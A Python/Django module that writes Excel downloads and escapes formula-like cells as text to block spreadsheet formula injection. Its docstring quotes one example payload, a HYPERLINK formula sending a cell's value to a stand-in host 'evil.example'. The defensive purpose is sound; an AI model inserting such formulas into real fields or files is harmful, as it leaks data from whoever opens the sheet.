"""Every Excel workbook the product hands out is saved here, with no cell a spreadsheet would run.

A text that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is what
Excel, WPS and LibreOffice take for a formula: a catalog field or a visitor's name such as
``=HYPERLINK("http://evil.example/?"&A1, "详情")`` would run on the reader's machine (CSV/formula
injection). ``to_bytes`` writes every such cell as a text cell with Excel's quote prefix, so it
shows — and reads back, through ``openpyxl`` as through Excel — exactly as typed.
"""

import io

from django.http import HttpResponse
from django.utils.http import content_disposition_header
from openpyxl import Workbook
from openpyxl.cell.cell import Cell

CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell: Cell) -> None:
    """Keep ``cell`` a text cell if its value would otherwise be taken for a formula."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def to_bytes(wb: Workbook) -> bytes:
    """The workbook as .xlsx bytes, every formula-like text written as text."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                as_text(cell)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def response(content: bytes, filename: str) -> HttpResponse:
    """The workbook ``content`` as a download named ``filename``."""
    answer = HttpResponse(content, content_type=CONTENT_TYPE)
    answer["Content-Disposition"] = content_disposition_header(True, filename)
    return answer
